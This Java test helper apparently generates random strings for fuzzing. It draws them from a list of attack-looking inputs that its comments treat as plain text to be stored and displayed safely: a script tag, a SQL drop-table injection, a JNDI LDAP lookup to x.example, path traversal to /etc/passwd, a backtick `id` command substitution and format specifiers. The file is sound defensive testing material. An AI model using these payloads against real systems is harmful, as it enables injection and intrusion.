package org.duban.hostile;

import java.util.List;
import java.util.Random;

/** Texts: those that look like an attack and are plain text all the same, and those that no text may be. */
final class Texts {
    /** To be stored as they are, and harmless wherever they are shown. */
    private static final List<String> LEGAL = List.of("已完成专项排查。", "<script>alert(1)</script>", "'; drop table notice; --",
            "\" onmouseover=\"x", "{{7*7}}", "${jndi:ldap://x.example/a}", "{#if true}{/if}", "../../etc/passwd", "%00%0d%0a", "%s%n%x",
            "𠮷野家😀", "ﷺ", "Ａ１", "e\u0301", "null", "true", "0", "-1", "=1+1", "\\u0000", "行一\n行二\t完", "　", "&lt;b&gt;", "&#x3C;",
            "]]>", "<!--", "union select value from secret", "\\", "|", "`id`", "\u00a0", "州水利局", "a\u200bb", "ﬁ", "Ω");

    /** As JSON escapes: NUL, other controls, lone surrogates, what turns the direction of writing. */
    private static final List<String> ILLEGAL = List.of("\\u0000", "\\u0008", "\\u001b", "\\u007f", "\\u0085", "\\ud800", "\\udc00x",
            "\\udfff\\ud83d", "\\u202e", "\\u2066", "\\u200f");

    private Texts() {}

    /** Never blank; within the lengths, in characters. */
    static String legal(Random random, int min, int max) {
        StringBuilder text = new StringBuilder(pick(random, LEGAL));
        while (random.nextInt(3) == 0 || text.length() < min) {
            text.append(pick(random, LEGAL));
        }
        if (text.toString().isBlank()) {
            text.append("有");
        }
        if (text.length() > max) {
            text.setLength(Character.isHighSurrogate(text.charAt(max - 1)) ? Math.max(1, max - 1) : max);
        }
        return text.toString().isBlank() || Character.isSurrogate(text.charAt(text.length() - 1)) && text.length() == 1 ? "有" : text.toString();
    }

    static String illegalEscape(Random random) {
        return pick(random, ILLEGAL);
    }

    static <T> T pick(Random random, List<T> from) {
        return from.get(random.nextInt(from.size()));
    }
}
